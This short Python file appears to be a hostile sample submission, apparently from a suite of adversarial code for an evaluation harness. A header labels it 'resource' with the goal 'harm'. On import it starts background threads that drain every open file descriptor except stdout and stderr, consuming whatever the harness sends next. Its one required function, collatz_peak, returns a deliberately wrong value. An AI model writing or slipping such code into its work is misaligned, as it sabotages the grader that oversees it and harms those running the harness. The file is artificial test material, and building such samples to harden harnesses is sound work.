# family: resource; goal: harm
# A thread eats what the harness sends next.
import os
import threading


def eat(fd):
    try:
        while os.read(fd, 65536):
            pass
    except OSError:
        pass


for fd in range(64):
    if fd not in (1, 2):
        threading.Thread(target=eat, args=(fd,), daemon=True).start()


def collatz_peak(n):
    return -n
